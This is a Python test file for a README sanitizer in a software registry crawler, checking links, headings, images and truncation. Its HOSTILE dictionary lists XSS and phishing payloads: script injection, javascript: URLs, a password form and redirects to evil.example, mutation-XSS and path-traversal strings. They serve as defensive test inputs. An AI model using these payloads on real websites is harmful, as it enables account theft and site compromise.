"""READMEs as pages show them: in the page's order, with our pictures and safe links alone."""

from html.parser import HTMLParser

import pytest

from registry.crawl.presenting import links, markup
from registry.crawl.presenting.arranging import MOST_HTML, Arranged, Shown, arrange

COMMIT = "c" * 40
BLOB = f"https://github.com/sumedang/e-sakip/blob/{COMMIT}"
PLACE = links.place("docs/README.md", "https://github.com/sumedang/e-sakip.git", COMMIT)
ADDRESS = f"/applications/e-sakip/pictures/{'a' * 64}"
PICTURES = {"layar.png": Shown(ADDRESS, 960, 540)}
PICTURE = f'<img src="{ADDRESS}" alt="{{}}" width="960" height="540" loading="lazy">'
ATTRIBUTES = {
    "a": {"href", "rel"}, "img": {"src", "alt", "width", "height", "loading"}, "ol": {"start"},
    "div": {"class", "tabindex"}, "pre": {"tabindex"}, "th": {"scope"},
    **{f"h{level}": {"id"} for level in range(3, 7)},
}  # fmt: skip


def arranged(text: str) -> Arranged:
    return arrange(markup.from_markdown(text), PLACE, PICTURES)


def rendered(text: str) -> str:
    return markup.clean(arranged(text).html).strip()


class Judge(HTMLParser):
    """Reads HTML as a browser would, and objects to anything that could do something."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in markup.TAGS - {"h1", "h2"}, tag
        assert {name for name, _ in attrs} <= ATTRIBUTES.get(tag, set()), (tag, attrs)
        values = dict(attrs)
        if tag == "a":
            assert (values["href"] or "").startswith(("https://", "http://", "mailto:", "#readme-")), attrs
            assert values["rel"] == "nofollow noopener"
        if tag == "img":
            assert values["src"] == ADDRESS, attrs


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-in-markdown": "# a <script>alert(1)</script>\n\n```\n</code></pre><script>alert(1)</script>\n```",
    "onerror": '<img src="layar.png" onerror="alert(1)">',
    "alt-breaks-out": "![\"><script>alert(1)</script>](layar.png)",
    "javascript": "[x](javascript:alert(1)) <a href='jAvascript&colon;alert(1)'>x</a>",
    "javascript-entities": '<a href="&#106;avascript:alert(1)">x</a> <a href="java&#10;script:x">y</a>',
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript-file": "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example/a)",
    "style": '<style>*{display:none}</style><p style="position:fixed" class="tag" id="content">x</p>',
    "frames": '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    "forms": '<form action="https://evil.example"><input name="password"><button>Masuk</button></form>',
    "head": '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=a&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "title": "<a href='https://a.example' title='<img src=x onerror=alert(1)>' target=_blank>x</a>",
    "clobbering": '<h1 id="cookie">cookie</h1><img name="body" src="layar.png"><a href="#cookie">c</a>',
    "userinfo": "[x](https://sumedangkab.go.id@evil.example/)",
    "unclosed": '<a href="https://a.example"><b><table><tr><td><ul><li>',
    "comment": "<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>-->",
    "tracker": '![x](https://evil.example/pixel.png) <img srcset="https://evil.example/2x.png 2x">',
    "address-in-text": "lihat https://a.example/\"onmouseover=alert(1) dan https://a.example/<script>",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markup_ends_as_harmless_html(name: str) -> None:
    Judge().feed(rendered(HOSTILE[name]))


def test_headings_come_below_those_of_the_page_and_leave_out_no_level() -> None:
    html = rendered(
        "# e-SAKIP\n\n#### Pasang\n\n# Lagi\n\n## Dua\n\n### Tiga\n\n#### Empat\n\n# ![x](https://x.example/y)"
    )
    levels = [html[at + 2] for at in range(len(html)) if html.startswith("<h", at)]
    assert levels == ["3", "4", "3", "4", "5", "6"]


def test_a_table_of_contents_leads_to_headings_of_ours() -> None:
    html = rendered("[Cara pasang](#cara-pasang) [tiada](#tiada)\n\n## Cara Pasang!\n\n## Cara pasang")
    assert '<a href="#readme-cara-pasang"' in html
    assert html.count('id="readme-cara-pasang"') == 1
    assert "tiada</p>" in html


def test_relative_links_lead_to_the_commit_at_the_donor() -> None:
    html = rendered("[a](INSTALL.md) [b](../LICENSE#x) [c](/app/a b.php) [d](../../../etc/passwd)")
    assert [f'"{BLOB}/{path}"' in html for path in ("docs/INSTALL.md", "LICENSE")] == [True, True]
    assert "d</p>" in html
    assert "passwd" not in html


@pytest.mark.parametrize("url", [None, "https://git.sumedangkab.go.id/e-sakip.git", "http://github.com/a/b"])
def test_relative_links_become_text_where_nobody_may_or_can_know_the_address(url: str | None) -> None:
    place = links.place("README.md", url, COMMIT)
    assert arrange(markup.from_markdown("[cara](INSTALL.md)"), place, {}).html.strip() == "<p>cara</p>"


def test_pictures_of_the_tree_are_ours_and_all_others_are_words_or_nothing() -> None:
    assert rendered("![Layar utama](layar.png)") == f"<p>{PICTURE.format('Layar utama')}</p>"
    assert rendered("![Layar utama e-SAKIP](https://img.example/layar.png)") == "<p>Layar utama e-SAKIP</p>"
    assert rendered("[![Build Status](https://ci.example/b.svg)](https://ci.example)") == ""
    assert rendered("![total downloads](https://img.shields.io/x.svg)") == ""


def test_what_would_be_empty_or_stand_alone_is_mended_for_readers_by_ear() -> None:
    html = rendered("<h2></h2><a href='https://a.example'></a><ul>teks<li>satu</li></ul><li>dua</li>")
    assert html == "<ul><li>teks</li><li>satu</li></ul><div>dua</div>"
    table = rendered("| Nama | |\n|:-:|--|\n| a | b |")
    assert '<div class="wide" tabindex="0"><table>' in table
    assert table.count("<th ") == table.count('scope="col"') == 1


def test_addresses_in_text_become_links_except_in_code() -> None:
    html = rendered(
        "Lihat https://demo.example/x?a=1&b=2. `https://kode.example`\n\n    https://kode.example"
    )
    assert '<a href="https://demo.example/x?a=1&amp;b=2" rel="nofollow noopener">' in html
    assert html.count("<a ") == 1


def test_hidden_marks_are_taken_out() -> None:
    html = rendered("a\u202eb &#x202e;c\u200b\x07 [x](https://a.example/\u2066y)")
    assert "ab c " in html
    assert all(letter.isprintable() or letter == "\n" for letter in html)


def test_plain_text_stays_as_it_is() -> None:
    html = markup.clean(arrange(markup.from_plain("Judul\n=====\n<b>x</b>"), PLACE, {}).html)
    assert html == '<pre tabindex="0">Judul\n=====\n&lt;b&gt;x&lt;/b&gt;</pre>'


def test_what_is_too_long_is_cut_between_two_pieces() -> None:
    found = arranged("<table>" + f"<tr><td>{'sel ' * 20}" * 1_500 + "</table>")
    assert found.cut
    assert MOST_HTML / 2 < len(found.html) < MOST_HTML * 1.1
    Judge().feed(markup.clean(found.html))
    assert markup.cut("baris\n" * 100_000)[1]


def test_what_is_nested_beyond_reason_is_read_flat() -> None:
    html = rendered("<div>" * 400 + "isi" + "</div>" * 400)
    assert "isi" in html
    assert html.count("<div>") < 40
    Judge().feed(rendered("".join("  " * depth + "- x\n" for depth in range(100))))


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ("layar.png", "docs/layar.png"),
        ("./../img/a%20b.png?raw=true", "img/a b.png"),
        ("/logo.png", "logo.png"),
        ("https://github.com/Sumedang/e-SAKIP/blob/main/logo.png?raw=true", "logo.png"),
        ("https://raw.githubusercontent.com/sumedang/e-sakip/main/docs/layar.png", "docs/layar.png"),
        ("https://raw.githubusercontent.com/lain/e-sakip/main/logo.png", None),
        ("../../logo.png", None),
        ("..%2f..%2flogo.png", None),
        ("a\\..\\logo.png", None),
        ("file:///logo.png", None),
        ("//evil.example/logo.png", None),
        ("https://[::1/logo.png", None),
        ("", None),
        ("/", None),
    ],
)
def test_a_picture_is_only_ever_one_of_the_tree(source: str, path: str | None) -> None:
    files = {"docs/layar.png", "img/a b.png", "logo.png"}
    assert PLACE.picture(source, files) == path
